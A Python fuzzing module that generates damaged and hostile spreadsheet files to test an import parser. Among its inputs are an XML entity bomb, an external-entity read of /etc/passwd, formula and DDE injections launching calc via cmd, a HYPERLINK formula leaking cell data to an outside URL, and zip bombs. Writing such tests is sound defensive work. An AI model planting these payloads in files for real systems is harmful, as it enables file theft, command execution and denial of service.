"""What is done to a spreadsheet before it is sent: one function for each kind of harm, drawn by dice."""

import csv
import io
import random
import re
from collections.abc import Callable

from tests.fuzz import files
from tests.fuzz.files import File

Rows = list[list[str]]
NAMES = ("名册.xlsx", "名册.xls", "名册.csv", "名册.ods", "名册", "a.XLSX", "=1+1.xlsx", "../../名册.xlsx", "名" * 200)
CORNERS = ("XFD1048576", "XFD1", "A1048576", "ZZZZZ9", "A0", "A99999999999", "", "1A", "$A$1", "A1:B2")
CODINGS = ("gbk", "gb18030", "utf-16", "utf-16-le", "utf-16-be", "utf-8", "utf-8-sig", "utf-32", "big5", "latin-1")
SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
BOMB = "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))
OPEN = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def whole(rows: Rows, dice: random.Random) -> bytes:
    """A good file of some format."""
    return dice.choice([_xlsx, files.xls, lambda some: files.ods(some, 0), _csv_bytes])(rows)


def flipped(rows: Rows, dice: random.Random) -> bytes:
    """Some bytes are others."""
    return _flip(whole(rows, dice), dice)


def cut(rows: Rows, dice: random.Random) -> bytes:
    """The end is missing, or something stands behind it."""
    data = whole(rows, dice)
    return data[: dice.randrange(len(data))] if dice.random() < 0.8 else data + dice.randbytes(dice.randint(1, 5000))


def part_flipped(rows: Rows, dice: random.Random) -> bytes:
    """Some bytes of a part are others, and it is packed rightly."""
    parts = files.parts_of(rows)
    name = dice.choice(sorted(parts))
    return files.zipped({**parts, name: _flip(parts[name], dice)})


def part_swapped(rows: Rows, dice: random.Random) -> bytes:
    """A part is missing, empty, or another one."""
    parts = files.parts_of(rows)
    one, other = dice.sample(sorted(parts), 2)
    how = dice.choice(["gone", "empty", "other", "case", "slash"])
    data = parts.pop(one)
    names = {"gone": {}, "empty": {one: b""}, "other": {one: parts[other]}, "case": {one.upper(): data}}
    return files.zipped({**parts, **names.get(how, {"/" + one: data})})


def cells_moved(rows: Rows, dice: random.Random) -> bytes:
    """Cells say that they stand elsewhere: in the last corner, beyond it, nowhere."""
    return _replaced(rows, dice, r'r="[A-Z]+\d+"', lambda: f'r="{dice.choice(CORNERS)}"')


def kinds_changed(rows: Rows, dice: random.Random) -> bytes:
    """Cells say that they hold something else than they do."""
    return _replaced(
        rows, dice, r't="s"', lambda: f't="{dice.choice(["b", "e", "d", "str", "inlineStr", "n", "z", ""])}"'
    )


def strings_missed(rows: Rows, dice: random.Random) -> bytes:
    """Cells ask for shared strings that are not there, or give numbers no number can be."""
    values = ("-1", "99999999999", "1e999", "NaN", "", "0x1", "1.5", "9" * 400, "١", "&#1;", "4.30223194611200E+17")
    return _replaced(rows, dice, r"<v>\d+</v>", lambda: f"<v>{dice.choice(values)}</v>")


def strings_spoilt(rows: Rows, dice: random.Random) -> bytes:
    """Shared strings that grow a million times, nest without end, or lie about their number."""
    parts = files.parts_of(rows)
    text = parts[STRINGS].decode()
    bomb = f'<!DOCTYPE sst [<!ENTITY a0 "{"x" * 50}">{BOMB}]>' + text.replace("<t>", "<t>&a9;", 1)
    outside = '<!DOCTYPE sst [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + text.replace("<t>", "<t>&a;", 1)
    nested = text.replace("<si>", "<si>" + "<r>" * 20_000, 1)
    counted = text.replace("<sst ", '<sst count="4294967295" uniqueCount="4294967295" ', 1)
    rich = text.replace("<t>", '<rPh sb="0" eb="9"><t>读</t></rPh><r><t>', 1).replace("</t>", "</t></r>", 1)
    return files.zipped({**parts, STRINGS: dice.choice([bomb, outside, nested, counted, rich]).encode()})


def merged(rows: Rows, dice: random.Random) -> bytes:
    """Merged cells: over the header, over everything, over each other; and a row that needs marking."""
    rows[-1][dice.randrange(len(rows[-1]))] = "X"
    areas = dice.choices(["A1:XFD1048576", "A1:C1", "A1:A3", "B2:A1", "A1", "A0:B0", "ZZZZ1:A9", "A2:K2"], k=3)
    inner = "".join(f'<mergeCell ref="{area}"/>' for area in areas)
    return _after_data(rows, f'<mergeCells count="3">{inner}</mergeCells>')


def formulas(rows: Rows, dice: random.Random) -> bytes:
    """Formulas that run programs or ask other files, with or without the value they had."""
    asked = (
        "cmd|'/c calc'!A0",
        "[1]Sheet1!A1",
        'HYPERLINK("http://x.cn/?"&amp;A1)',
        "A1",
        "SUM(A1:XFD1048576)",
        "(" * 5000,
    )
    return _replaced(rows, dice, "<v>", lambda: f"<f>{dice.choice(asked)}</f><v>")


def linked(rows: Rows, dice: random.Random) -> bytes:
    """External links, DDE links and a macro project."""
    parts = files.parts_of(rows)
    link = f'<externalLink xmlns="{files.MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    more = {
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/vbaProject.bin": files.compound(dice.randbytes(2000)),
    }
    kept = dice.sample(sorted(more), dice.randint(1, 2))
    book = (
        parts[BOOK]
        .decode()
        .replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId9"/></externalReferences>')
    )
    return files.zipped({**parts, BOOK: book.encode(), **{name: more[name] for name in kept}})


def bombs(rows: Rows, dice: random.Random) -> bytes:
    """What is small when packed: blanks, an archive in an archive, a directory that lies, too many parts."""
    how = dice.choice(["zeros", "lying", "nested", "parts"])
    if how == "zeros":
        return files.packed_zeros(64)
    if how == "lying":
        return files.lying(
            files.packed_zeros(64) if dice.random() < 0.1 else _xlsx(rows), dice.choice([1, 0, 10**6, 2**32 - 1])
        )
    if how == "nested":
        inner = _xlsx(rows)
        for _depth in range(dice.randint(1, 20)):
            inner = files.zipped({"xl/workbook.xml": inner, "名册.xlsx": inner[:20_000]})
        return inner
    return files.zipped({**files.parts_of(rows), **{f"xl/x{at}": b"" for at in range(dice.choice([10, 6_000]))}})


def wide(rows: Rows, dice: random.Random) -> bytes:
    """More columns than there are, in text, in xlsx, in ods."""
    how = dice.choice(["csv", "xlsx", "ods"])
    if how == "csv":
        return (_csv(rows) + "," * dice.choice([20_000, 1_200_000]) + "\n").encode()
    if how == "ods":
        return files.ods(rows, dice.choice([10, 20_000, 1_000_000_000, -1]))
    rows[0] += [f"列{at}" for at in range(dice.choice([300, 17_000]))]
    return _xlsx(rows)


def encoded(rows: Rows, dice: random.Random) -> bytes:
    """Text in another encoding, with or without the mark of its order, cut in the middle of a character."""
    data = _csv(rows).encode(dice.choice(CODINGS), "replace")
    return data[:-1] if dice.random() < 0.3 else data


def texts(rows: Rows, dice: random.Random) -> bytes:
    """Text that is hardly a table: quotes without end, other separators, other ends of lines, a page of the web."""
    text = _csv(rows)
    spoilt = (
        text.replace(",", "\t"), text.replace(",", ";"), text.replace("\r\n", "\r"), text + '"',
        '"' + text, text + "\0",
        text.replace(",", '","', 1), text + '"' + "x" * 1_100_000, "<html><table><tr><td>" + text, "\n" * 3000 + text,
        "", " ", "\ufeff\ufeff" + text, text.replace(",", '="', 1), "%PDF-1.7" + text, text * 60,
    )  # fmt: skip
    return dice.choice(spoilt).encode("utf-8", "replace")


def locked(rows: Rows, dice: random.Random) -> bytes:
    """A workbook with a password: a compound file with an encrypted stream, or only its first bytes."""
    if dice.random() < 0.5:
        return files.compound(dice.randbytes(dice.randint(1, 20_000)), "EncryptedPackage")
    return OPEN + dice.randbytes(dice.randint(0, 5_000))


def old_books(rows: Rows, dice: random.Random) -> bytes:
    """An Excel 97 workbook with other bytes in its records or in its chains of sectors."""
    data = bytearray(files.xls(rows))
    first, last = dice.choice([(0, 512), (512, 1024), (1024, 1536), (1536, len(data))])
    for _byte in range(dice.randint(1, 12)):
        data[dice.randrange(first, last)] = dice.choice([0, 1, 255, dice.randrange(256)])
    return bytes(data)


def values(rows: Rows, dice: random.Random) -> bytes:
    """A sound file whose cells hold what nobody expects."""
    for _cell in range(dice.randint(1, 6)):
        row = dice.randrange(1, len(rows))
        rows[row][dice.randrange(len(rows[row]))] = dice.choice(files.HOSTILE)
    if dice.random() < 0.5:
        return _csv_bytes(rows)
    return _xlsx(rows) if dice.random() < 0.7 else files.ods(rows, 0)


def headers(rows: Rows, dice: random.Random) -> bytes:
    """Headers twice, missing, misspelt, far below, or on no row at all."""
    spoilt = dice.choice(["twice", "missing", "misspelt", "below", "none", "hostile"])
    place = dice.randrange(len(rows[0]))
    if spoilt == "twice":
        rows[0][place] = rows[0][(place + 1) % len(rows[0])]
    elif spoilt == "missing":
        rows[0][place] = ""
    elif spoilt == "misspelt":
        rows[0][place] += "们"
    elif spoilt == "below":
        rows[:0] = [["名册"]] * dice.choice([3, 29, 60])
    elif spoilt == "none":
        del rows[0]
    else:
        rows[0][place] = dice.choice(files.HOSTILE)
    return whole(rows, dice)


HARMS: tuple[Callable[[Rows, random.Random], bytes], ...] = (
    whole, flipped, cut, part_flipped, part_swapped, cells_moved, kinds_changed, strings_missed, strings_spoilt, merged,
    formulas, linked, bombs, wide, encoded, texts, locked, old_books, values, headers,
)  # fmt: skip


def spoilt_file(number: int, seed: int) -> File:
    """The file of a number; the same for the same seed."""
    dice = random.Random(f"{seed} {number}")
    roster = dice.random() < 0.5
    rows = files.roster_rows(number, dice) if roster else files.plain_rows(dice)
    harm = HARMS[number % len(HARMS)]
    return File(harm.__name__, dice.choice(NAMES), harm(rows, dice), roster)


def _xlsx(rows: Rows) -> bytes:
    return files.zipped(files.parts_of(rows))


def _csv(rows: Rows) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def _csv_bytes(rows: Rows) -> bytes:
    """In UTF-8, half of a pair of surrogates too, as a careless program writes it."""
    return _csv(rows).encode("utf-8", "surrogatepass")


def _flip(data: bytes, dice: random.Random) -> bytes:
    spoilt = bytearray(data)
    for _byte in range(dice.randint(1, 20)):
        spoilt[dice.randrange(len(spoilt))] = dice.randrange(256)
    return bytes(spoilt)


def _replaced(rows: Rows, dice: random.Random, pattern: str, to: Callable[[], str]) -> bytes:
    parts = files.parts_of(rows)
    share = dice.choice([0.05, 0.3])
    text = re.sub(pattern, lambda one: to() if dice.random() < share else one[0], parts[SHEET].decode())
    return files.zipped({**parts, SHEET: text.encode("utf-8", "replace")})


def _after_data(rows: Rows, more: str) -> bytes:
    parts = files.parts_of(rows)
    text = parts[SHEET].decode().replace("</sheetData>", f"</sheetData>{more}")
    return files.zipped({**parts, SHEET: text.encode()})
